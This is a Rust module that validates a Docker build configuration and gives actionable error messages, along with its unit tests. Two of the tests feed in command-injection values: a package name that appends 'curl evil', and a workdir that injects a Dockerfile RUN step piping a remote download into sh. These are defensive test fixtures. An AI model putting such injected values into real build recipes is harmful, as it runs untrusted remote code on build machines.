//! Configuration validation with actionable error messages
//!
//! Validates the configuration and names the config field to fix.

use super::schema::Config;
use crate::artifact::ArtifactError;
use crate::docker::RecipeError;

/// A configuration validation error with an actionable fix
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidationError {
    /// The config field that has an error
    pub field: String,
    /// Description of what's wrong
    pub message: String,
    /// Suggested value or action
    pub fix: String,
}

impl std::fmt::Display for ValidationError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}: {} (fix: {})", self.field, self.message, self.fix)
    }
}

impl std::error::Error for ValidationError {}

/// A configuration validation warning (non-fatal)
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidationWarning {
    pub field: String,
    pub message: String,
}

/// Validate configuration and return warnings or first error
///
/// Validation is performed in order, stopping at the first error.
pub fn validate_config(config: &Config) -> Result<Vec<ValidationWarning>, ValidationError> {
    let mut warnings = Vec::new();

    if let Err(e) = config.recipe().validate() {
        return Err(recipe_error(e));
    }

    config.checked_image_ref(None)?;

    if config.stop_timeout_secs < 0 {
        return Err(ValidationError {
            field: "stop_timeout_secs".to_string(),
            message: "stop_timeout_secs must be >= 0".to_string(),
            fix: "set stop_timeout_secs to 10".to_string(),
        });
    }

    for exclude in &config.context_excludes {
        if exclude == "Cargo.toml" {
            return Err(ValidationError {
                field: "context_excludes".to_string(),
                message: "Cargo.toml cannot be excluded from the build context".to_string(),
                fix: "remove \"Cargo.toml\" from context_excludes".to_string(),
            });
        }
        if exclude.contains('/') || exclude.is_empty() {
            return Err(ValidationError {
                field: "context_excludes".to_string(),
                message: format!("'{exclude}' is not a top-level entry name"),
                fix: "list plain top-level names such as \"target\"".to_string(),
            });
        }
    }

    // Warnings (non-fatal)

    if config.image_tag == "latest" && config.image_name != Config::default().image_name {
        warnings.push(ValidationWarning {
            field: "image_tag".to_string(),
            message: "custom image_name with the 'latest' tag; consider a versioned tag"
                .to_string(),
        });
    }

    if config.builder_image.ends_with(":latest") || !config.builder_image.contains(':') {
        warnings.push(ValidationWarning {
            field: "builder_image".to_string(),
            message: "builder image is not pinned to a toolchain version".to_string(),
        });
    }

    if !config.context_excludes.iter().any(|e| e == "target") {
        warnings.push(ValidationWarning {
            field: "context_excludes".to_string(),
            message: "a local 'target' directory would be uploaded with the build context"
                .to_string(),
        });
    }

    Ok(warnings)
}

fn recipe_error(err: RecipeError) -> ValidationError {
    let (field, fix) = match &err {
        RecipeError::InvalidImage { field, .. } => {
            (field.to_string(), format!("set {field} to a valid image reference"))
        }
        RecipeError::Workdir(_) => (
            "build_workdir".to_string(),
            "use an absolute path without spaces such as \"/usr/src/eps_server\"".to_string(),
        ),
        RecipeError::InvalidPackage(_) => (
            "runtime_packages".to_string(),
            "use Debian package names, e.g. \"ca-certificates\"".to_string(),
        ),
        RecipeError::ArtifactMismatch { .. } => (
            "artifact_name".to_string(),
            "use one artifact definition for both stages".to_string(),
        ),
        RecipeError::Artifact(artifact_err) => match artifact_err {
            ArtifactError::EmptyName | ArtifactError::InvalidName(_) => (
                "artifact_name".to_string(),
                "set artifact_name to the binary name, e.g. \"eps_server\"".to_string(),
            ),
            ArtifactError::RelativePath { field, .. }
            | ArtifactError::UnsafePath { field, .. } => (
                field.to_string(),
                format!("set {field} to an absolute path without spaces"),
            ),
        },
    };
    ValidationError {
        field,
        message: err.to_string(),
        fix,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_config_is_valid() {
        let warnings = validate_config(&Config::default()).unwrap();
        assert!(warnings.iter().any(|w| w.field == "context_excludes"));
        assert!(!warnings.iter().any(|w| w.field == "builder_image"));
    }

    #[test]
    fn rejects_relative_runtime_dir() {
        let config = Config {
            runtime_dir: "bin".to_string(),
            ..Config::default()
        };
        let err = validate_config(&config).unwrap_err();
        assert_eq!(err.field, "runtime_dir");
    }

    #[test]
    fn rejects_bad_artifact_name() {
        let config = Config {
            artifact_name: "eps server".to_string(),
            ..Config::default()
        };
        assert_eq!(validate_config(&config).unwrap_err().field, "artifact_name");
    }

    #[test]
    fn rejects_bad_package() {
        let config = Config {
            runtime_packages: vec!["libssl3 && curl evil".to_string()],
            ..Config::default()
        };
        assert_eq!(
            validate_config(&config).unwrap_err().field,
            "runtime_packages"
        );
    }

    #[test]
    fn rejects_bad_tag_and_timeout() {
        let config = Config {
            image_tag: "a:b".to_string(),
            ..Config::default()
        };
        assert_eq!(validate_config(&config).unwrap_err().field, "image_tag");

        let config = Config {
            stop_timeout_secs: -1,
            ..Config::default()
        };
        assert_eq!(
            validate_config(&config).unwrap_err().field,
            "stop_timeout_secs"
        );
    }

    #[test]
    fn rejects_injected_workdir() {
        let config = Config {
            build_workdir: "/usr/src/app\nRUN curl http://example.invalid | sh".to_string(),
            ..Config::default()
        };
        let err = validate_config(&config).unwrap_err();
        assert_eq!(err.field, "build_workdir");
    }

    #[test]
    fn rejects_runtime_dir_with_spaces() {
        let config = Config {
            runtime_dir: "/opt/my app".to_string(),
            ..Config::default()
        };
        assert_eq!(validate_config(&config).unwrap_err().field, "runtime_dir");
    }

    #[test]
    fn rejects_uppercase_image_name() {
        let config = Config {
            image_name: "EpsServer".to_string(),
            ..Config::default()
        };
        assert_eq!(validate_config(&config).unwrap_err().field, "image_name");
    }

    #[test]
    fn rejects_excluding_manifest() {
        let config = Config {
            context_excludes: vec!["Cargo.toml".to_string()],
            ..Config::default()
        };
        assert_eq!(
            validate_config(&config).unwrap_err().field,
            "context_excludes"
        );
    }

    #[test]
    fn warns_on_unpinned_builder() {
        let config = Config {
            builder_image: "rust".to_string(),
            context_excludes: vec!["target".to_string()],
            ..Config::default()
        };
        let warnings = validate_config(&config).unwrap();
        assert_eq!(warnings.len(), 1);
        assert_eq!(warnings[0].field, "builder_image");
    }
}
